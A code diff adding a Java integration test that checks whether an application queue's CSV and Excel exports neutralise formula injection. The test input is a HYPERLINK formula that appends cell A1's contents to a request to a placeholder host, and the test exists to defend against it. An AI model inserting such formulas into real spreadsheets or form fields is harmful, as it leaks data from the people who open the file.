@@ -65,6 +65,54 @@ class QueueIT {
         assertEquals(403, applicant.get("/reviewer/applications.xhtml").statusCode(), "applicants do not get in");
     }
 
+    /**
+     * An organisation named as a formula is exported as text: its cell starts with an apostrophe in the CSV and in
+     * the Excel file, so opening the export runs nothing (OWASP CSV injection).
+     */
+    @Test
+    void exportsCarryNoFormulas() throws java.io.IOException {
+        String formula = "=HYPERLINK(\"http://x/?\"&A1,\"x\")";
+        WebClient enterprise = Applicants.newEnterprise(TestData.username("gongshi"), formula, TestData.creditCode());
+        String number = Applicants.submitted(enterprise, "KF-XD-CREDIT");
+
+        WebClient reviewer = Applicants.as("demo.reviewer");
+        Map<String, String> filter =
+                form(reviewer.get("/reviewer/applications.xhtml").body(), "apply");
+        filter.put("queue:program_input", "KF-XD-CREDIT");
+        String filtered = reviewer.post("/reviewer/applications.xhtml", filter).body();
+
+        String csv = new String(
+                reviewer.postForBytes("/reviewer/applications.xhtml", form(filtered, "export-csv"))
+                        .body(),
+                StandardCharsets.UTF_8);
+        String line =
+                csv.lines().filter(l -> l.contains(number)).findFirst().orElseThrow(() -> new AssertionError(csv));
+        assertTrue(line.contains("'=HYPERLINK"), line);
+        assertFalse(line.matches(".*(^|,)\"?=HYPERLINK.*"), "no field starts with the formula: " + line);
+
+        byte[] xlsx = reviewer.postForBytes("/reviewer/applications.xhtml", form(filtered, "export-xlsx"))
+                .body();
+        StringBuilder sheets = new StringBuilder();
+        // a streamed xlsx has entries whose sizes follow their data: ZipFile reads them, ZipInputStream does not
+        java.nio.file.Path file = java.nio.file.Files.createTempFile("queue", ".xlsx");
+        try {
+            java.nio.file.Files.write(file, xlsx);
+            try (java.util.zip.ZipFile zip = new java.util.zip.ZipFile(file.toFile())) {
+                for (java.util.zip.ZipEntry e : java.util.Collections.list(zip.entries())) {
+                    if (e.getName().endsWith(".xml")) {
+                        sheets.append(new String(zip.getInputStream(e).readAllBytes(), StandardCharsets.UTF_8));
+                    }
+                }
+            }
+        } finally {
+            java.nio.file.Files.delete(file);
+        }
+        String xml = sheets.toString();
+        assertTrue(xml.contains("&apos;=HYPERLINK") || xml.contains("'=HYPERLINK"), "the Excel cell is inert");
+        assertFalse(xml.contains("<f>"), "and no cell of the file is a formula");
+        assertFalse(xml.matches("(?s).*>=HYPERLINK.*"), "no cell text starts with the formula");
+    }
+
     private static Map<String, String> form(String page, String button) {
         Map<String, String> form = new LinkedHashMap<>();
         form.put("queue", "queue");
